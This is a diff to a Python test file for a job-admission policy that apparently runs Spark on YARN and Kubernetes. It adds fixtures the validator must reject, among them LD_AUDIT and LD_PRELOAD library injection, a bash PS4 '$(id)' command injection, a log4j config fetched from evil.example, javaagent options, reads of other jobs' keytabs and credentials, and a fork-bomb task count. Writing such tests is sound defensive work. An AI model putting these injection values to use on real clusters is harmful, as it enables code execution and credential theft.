@@ -143,6 +143,108 @@ ATTACKS: dict[str, tuple[dict[str, Any], str, str]] = {
         "env PYTHONPATH",
         "policy.in_place_files",
     ),
+    "a library by the loader's own variable": (
+        {"env": {"LD_AUDIT": "/tmp/evil.so"}},
+        "env LD_AUDIT",
+        "policy.conf.forbidden",
+    ),
+    "a converter of the C library": (
+        {"env": {"GCONV_PATH": "/tmp"}},
+        "env GCONV_PATH",
+        "policy.conf.forbidden",
+    ),
+    "a command in the prompt of bash": (
+        {"env": {"SHELLOPTS": "allexport:xtrace", "PS4": "$(id)"}},
+        "env SHELLOPTS",
+        "policy.conf.forbidden",
+    ),
+    "a function of bash": (
+        {"env": {"BASH_FUNC_dirname": "() { :; }"}},
+        "env BASH_FUNC_dirname",
+        "policy.conf.forbidden",
+    ),
+    "another standard library": ({"env": {"PYTHONHOME": "/tmp"}}, "env PYTHONHOME", "policy.in_place_files"),
+    "another home, with its ivy settings": ({"env": {"HOME": "/tmp"}}, "env HOME", "policy.in_place_files"),
+    "a configuration of log4j from elsewhere": (
+        {"env": {"LOG4J_CONFIGURATION_FILE": "http://evil.example/l.xml"}},
+        "env LOG4J_CONFIGURATION_FILE",
+        "policy.in_place_files",
+    ),
+    "an engine of OpenSSL": (
+        {"env": {"OPENSSL_CONF": "/tmp/x"}},
+        "env OPENSSL_CONF",
+        "policy.in_place_files",
+    ),
+    "another user of HDFS": (
+        {"env": {"HADOOP_PROXY_USER": "hdfs"}},
+        "env HADOOP_PROXY_USER",
+        "policy.in_place_files",
+    ),
+    "a variable that nobody has allowed": (
+        {"env": {"NEW_LOADER": "/x"}},
+        "env NEW_LOADER",
+        "policy.env.allowed",
+    ),
+    "a class path by its default": (
+        conf(spark__driver__defaultExtraClassPath="/tmp/evil.jar"),
+        "conf spark.driver.defaultExtraClassPath",
+        "policy.in_place_files",
+    ),
+    "a script that finds resources": (
+        conf(spark__driver__resource__gpu__discoveryScript="/tmp/evil.sh"),
+        "conf spark.driver.resource.gpu.discoveryScript",
+        "policy.in_place_files",
+    ),
+    "a library in the executors": (
+        conf(spark__executorEnv__LD_PRELOAD="/tmp/evil.so"),
+        "conf spark.executorEnv.LD_PRELOAD",
+        "policy.in_place_files",
+    ),
+    "an agent in YARN's master": (
+        conf(spark__yarn__am__extraJavaOptions="-javaagent:/tmp/evil.jar"),
+        "conf spark.yarn.am.extraJavaOptions",
+        "policy.in_place_files",
+    ),
+    "an image": (
+        conf(spark__kubernetes__container__image="evil/image"),
+        "conf spark.kubernetes.container.image",
+        "policy.in_place_files",
+    ),
+    "a template of pods": (
+        conf(spark__kubernetes__executor__podTemplateFile="/tmp/pod.yaml"),
+        "conf spark.kubernetes.executor.podTemplateFile",
+        "policy.in_place_files",
+    ),
+    "a repository of jars": (
+        conf(spark__jars__ivy="/tmp/ivy"),
+        "conf spark.jars.ivy",
+        "policy.in_place_files",
+    ),
+    "a command of Kerberos": (
+        conf(spark__hadoop__hadoop__kerberos__kinit__command="/tmp/evil.sh"),
+        "conf spark.hadoop.hadoop.kerberos.kinit.command",
+        "policy.in_place_files",
+    ),
+    "the keytab of another job": (
+        conf(spark__kerberos__keytab="/etc/spark-supervisor/secrets/payments/keytab"),
+        "conf spark.kerberos.keytab",
+        "policy.secrets.files",
+    ),
+    "the credentials of another job": (
+        conf(spark__hadoop__hadoop__security__credential__provider__path="jceks://file/etc/x.jceks"),
+        "conf spark.hadoop.hadoop.security.credential.provider.path",
+        "policy.secrets.files",
+    ),
+    "another team's object, fetched with the supervisor's credentials": (
+        {"py_files": ["s3://team-b/private/etl.py"], "sha256": {"s3://team-b/private/etl.py": "ab" * 32}},
+        "py_files",
+        "policy.in_place_locations",
+    ),
+    "more processes than one job may have": (
+        {"resources": {"tasks": 100_000}},
+        "resources.tasks",
+        "policy.resources.max.tasks",
+    ),
     "another Python": (
         {"env": {"PYSPARK_PYTHON": "/tmp/evil"}},
         "env PYSPARK_PYTHON",
@@ -165,6 +267,14 @@ def test_without_the_rule_it_works(keys: dict[str, Any], key: str, rule: str) ->
     if rule == "policy.endpoints":  # its default is safe
         return
     assert admitted(spec(**keys), OPEN, "host1") == spec(**keys)
+
+
+def test_a_job_that_asks_for_no_limit_gets_that_of_the_operator() -> None:
+    """A fork bomb was the submitter's choice: null was no limit, over the operator's defaults."""
+    job = spec(resources={"tasks": None, "memory_limit": None})
+    limits = admitted(job, SECURE, "h").limits()
+    assert limits is not None and limits.tasks == 4000
+    assert admitted(job, OPEN, "h").limits() is None
 
 
 PLUGINS = SECURE.model_copy(
